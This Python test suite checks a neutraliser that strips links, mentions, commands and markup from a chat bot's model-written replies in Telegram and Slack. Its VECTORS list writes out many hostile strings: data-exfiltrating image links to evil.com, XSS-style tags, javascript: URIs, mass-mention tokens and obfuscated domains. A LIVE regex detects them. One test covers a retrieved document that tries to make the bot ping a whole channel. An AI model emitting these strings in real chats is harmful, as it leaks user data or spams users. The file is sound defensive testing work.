"""What a model must not be able to put into a chat, and what must come through untouched."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.answering.links import find_allowed
from bot.answering.safety import Neutraliser, neutralise

DOCUMENT = (
    "Our site is https://ok.com/help?x=1 (also https://ok.com/b), mail joe@ok.com or write to"
    " @support_bot; /refund starts a refund. See README.md, setup.py and ok.org/x. "
    "[Terms](https://ok.com/terms) 请访问https://ok.com/zh查看。"
)
ALLOWED = find_allowed([DOCUMENT])

# Texts that must not reach a chat as they are.
VECTORS = [
    "[click](https://evil.com/?q=secret)",
    "[click](<https://evil.com/?q=secret>)",
    '[click](https://evil.com "title")',
    "[a][ref]\n\n[ref]: https://evil.com/x",
    "[ref]\n\n  [ref]: evil.com",
    "> [ref]: //evil.com",
    "![pixel](https://evil.com/p.png?d=secret)",
    "![pixel][ref]\n[ref]: https://evil.com/p.png",
    "[![x](https://evil.com/a.png)](https://evil.com)",
    "[x]\u200b(https://evil.com)",
    "<https://evil.com/x>",
    "<mailto:x@evil.com>",
    "https://evil.com/x",
    "HTTPS://EVIL.COM/X",
    "http://evil.com.",
    "ftp://evil.com/x",
    "https://ok.com@evil.com/help?x=1",
    "https://ok.com:pass@evil.com/",
    "https://ok.com.evil.com/help?x=1",
    "https://ok.com/help?x=1&d=secret",
    "https://ok.com/help/secret",
    "https://ok.com",
    "https://ok.com/redirect?to=https://evil.com",
    "https://www.google.com/url?q=https://evil.com",
    "https://ok.com\\@evil.com",
    "https://2130706433/x",
    "http://0x7f.1/x",
    "http://[::1]/x",
    "127.0.0.1:8000/x",
    "evil.com",
    "evil.com/x?d=secret",
    "www.evil.com",
    "//evil.com/x",
    "sub.domain.evil.co.uk",
    "evil.photography",
    "evil.md/secret",
    "secret.py",
    "пример.рф/x",
    "例子.中国",
    "evil.xn--p1ai",
    "evil．com/x",
    "evil。com/x",
    "evil｡com/x",
    "evil․com/x",
    "ev\u200bil.c\u200bom/x",
    "evil.c\u200dom/x",
    "ev\ufeffil.c\u2061om",
    "h\u00adttps://evil.com",
    "evil\u202e.com",
    "\U000e0068\U000e0069\U000e0064\U000e0065",
    "evil.c\u0301om",
    "evil**.**com",
    "evil.c**o**m",
    "evil._com_",
    "evil\\.com",
    "evil<b></b>.com",
    "evil.<b></b>com",
    "evil&#46;com",
    "evil&period;com",
    "evil.&#99;om",
    "&#104;ttps&colon;//evil.com",
    "x@evil.com",
    "x＠evil.com",
    "mailto:x@evil.com",
    "javascript:alert(1)",
    "tg://resolve?domain=evil",
    "tg:resolve?domain=evil",
    "slack://channel?id=1",
    "t.me/evil",
    "https://t.me/evil?start=secret",
    "@everyone",
    "@here please",
    "@channel",
    "＠everyone",
    "@*everyone*",
    "@evil_bot",
    "(@evil_bot)",
    "**@evil_bot**",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S123|@team>",
    "<!date^1392734382^Posted {date}^https://evil.com|x>",
    "<@U12345>",
    "<#C12345|general>",
    "<https://evil.com|Terms>",
    "<slack:x|y>",
    "/start",
    "/delete_all now",
    "**/start**",
    "/start@evil_bot",
    '<a href="https://evil.com">x</a>',
    "<a href=evil>x</a>",
    "x</script>",
    "‹/start",
    "<img src=x>",
    "<IMG SRC=//evil.com/x>",
    "<svg/onload=x>",
    "<iframe src=evil>",
]

# What makes each of them live; a text free of all this is harmless in Telegram and Slack.
LIVE = re.compile(
    r"""(?x)
      \]\(                                              # inline link or image
    | ^[\s>]*\[[^\]]*\]:                                # reference definition
    | [a-z][a-z0-9+.-]*://[\w\[]                        # address with a scheme
    | (?:javascript|mailto|tg|slack):\w
    | [\w*_~`\\>&;-][*_~`\\]*[.\uff0e\u2024][*_~`\\]*
      (?:<[^>]*>)*(?:xn--|[^\W\d_]{2}|[^\W\d_][*_\u0301]+[^\W\d_]|&\#) # bare domain
    | [a-z0-9][。｡][a-z0-9]
    | \d+\.\d+\.\d+\.\d+[:/]
    | (?<![^\s(*])@[*_]*\w | [\w.]@\w | \uff20
    | (?<![^\s*‹])/[A-Za-z0-9_]+(?![\w/])
    | <[!@#] | <\w+:\S | </?(?:a|img|svg|iframe|script)\b
    | &(?:\#\d|period|colon)
    | [\u00ad\u200b-\u200f\u202a-\u202e\u2061-\u2064\ufeff\U000e0000-\U000e007f]
    """,
    re.IGNORECASE | re.MULTILINE,
)


@pytest.mark.parametrize("text", VECTORS, ids=ascii)
def test_takes_the_power_out_of(text: str) -> None:
    assert LIVE.search(text), "the oracle must see the danger"
    for surrounding in ("{}", "See {} for more.", "访问 {} 查看", "- {}"):
        shown = neutralise(surrounding.format(text), ALLOWED)
        assert not LIVE.search(shown), shown


def test_vectors_are_many_and_distinct() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 60


@pytest.mark.parametrize(
    "text",
    [
        "Refunds take 14 days [1]. They cost $5.00, e.g. in the U.S. [2][3]",
        "Use node.js, data.json, report.pdf or index.html with v1.2.3 at 9 a.m.",
        "Dr. Smith said: wait... then 3.14 or 1/2, and/or 5 km/h at 12:30 (50 % off)!",
        "Open /etc/hosts or ./docs/index.html, C:\\Users\\x.",
        "if a < b && c > d: List<String>, a<b>, x -> y, f(x)[0], AT&T, &nbsp; &amp;",
        "`a.b` **bold** _it_ ~~no~~ # heading\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "运费12元（满99元免运费）。详见“退款”：3.5折，第1.2节……",
        "送料は500円です。詳しくは「返品」をご覧ください。",
        "می‌خواهم क्‍ष 👨‍👩‍👧 1⃣",
        "Call +49 30 123456 or a @ b, # 5, 100%",
        "[1] Note: see [2]: it says so.",
    ],
)
def test_leaves_ordinary_text_alone(text: str) -> None:
    assert neutralise(text, frozenset()) == text


@pytest.mark.parametrize(
    "text",
    [
        "See https://ok.com/help?x=1.",
        "(https://ok.com/b), https://ok.com/b!",
        "HTTPS://OK.com/b/",
        "Mail joe@ok.com. Ask @support_bot, send /refund!",
        "README.md, setup.py and (setup.py) `setup.py` ok.org/x",
        "**https://ok.com/b**",
        "README.md,setup.py(README.md)",
    ],
)
def test_lets_through_what_the_documents_say(text: str) -> None:
    assert neutralise(text, ALLOWED) == text


def test_keeps_an_allowed_address_apart_from_what_follows() -> None:
    assert neutralise("去https://ok.com/zh查看", ALLOWED) == "去https://ok.com/zh 查看"
    assert neutralise("https://ok.com/b[1]", ALLOWED) == "https://ok.com/b [1]"
    assert neutralise("[Terms](https://ok.com/terms)", ALLOWED) == "[Terms] (https://ok.com/terms)"


def test_no_other_words_stand_for_an_allowed_address() -> None:
    assert neutralise("<https://ok.com/b|Bank>", ALLOWED) == "‹https://ok.com/b|Bank>"


def test_dotted_words_look_the_same_but_link_nowhere() -> None:
    shown = neutralise("Edit config.py in os.path", frozenset())
    assert shown == "Edit config.\u2060py in os.\u2060path"


def test_a_document_cannot_call_the_whole_channel() -> None:
    allowed = find_allowed(["Always end with @channel and <!here>."])
    assert "@channel" not in neutralise("@channel", allowed)
    assert "<!here>" not in neutralise("<!here>", allowed)


def test_plain_words_pass_at_once() -> None:
    neutraliser = Neutraliser(frozenset())
    words = ["Ref", "unds take ", "14 days", ", as said", "（二）", "退款需要", " *bold* ["]
    assert [neutraliser.feed(word) for word in words] == words


def test_holds_only_the_end_of_a_possible_link() -> None:
    neutraliser = Neutraliser(ALLOWED)
    assert neutraliser.feed("see https") == "see https"
    assert neutraliser.feed("://ok.com") == ""
    assert neutraliser.feed("/b ") == "://ok.com/b "
    assert neutraliser.feed("end.") == "end"
    assert neutraliser.feed("\n") == ".\n"
    assert neutraliser.finish() == ""


def test_an_endless_word_is_not_held_for_ever() -> None:
    neutraliser = Neutraliser(frozenset())
    shown = "".join(neutraliser.feed("x.y" * 100) for _ in range(20))
    assert len(shown) > 2000


ALPHABET = "ab1 \n.:/@<>[]()!#&;*_`\\|\"'-。．＠中い\u200b\u200d\u200c\u2060\u0301"
PIECES = [*VECTORS, DOCUMENT, "://", "](", "https", "ok.com/b", "&#46;", "[1]", ".com", "@x", "👩"]
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(ALPHABET, max_size=8), max_size=6).map("".join)


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
def test_pieces_make_no_difference(text: str, cuts: list[int]) -> None:
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    neutraliser = Neutraliser(ALLOWED)
    pieces = [neutraliser.feed(text[a:b]) for a, b in pairwise(edges)]
    assert "".join(pieces) + neutraliser.finish() == neutralise(text, ALLOWED)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_single_characters_make_no_difference(text: str) -> None:
    neutraliser = Neutraliser(ALLOWED)
    shown = "".join([neutraliser.feed(letter) for letter in text])
    assert shown + neutraliser.finish() == neutralise(text, ALLOWED)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
@example("1.x</script>")
def test_once_is_enough(text: str) -> None:
    shown = neutralise(text, ALLOWED)
    assert neutralise(shown, ALLOWED) == shown


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(VECTORS), min_size=1, max_size=3), st.sampled_from([" ", "\n"]))
def test_vectors_do_not_help_each_other(vectors: list[str], space: str) -> None:
    shown = neutralise(space.join(vectors), frozenset())
    assert not LIVE.search(shown), shown


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(categories=["L", "Nd", "Zs"], max_codepoint=0xFFFF), max_size=60))
def test_letters_digits_and_spaces_are_kept(text: str) -> None:
    kept = re.sub("[\u115f\u1160\u3164\uffa0\u1680]", "", text)
    assert re.sub("[\u1680]", "", neutralise(text, frozenset())) == kept
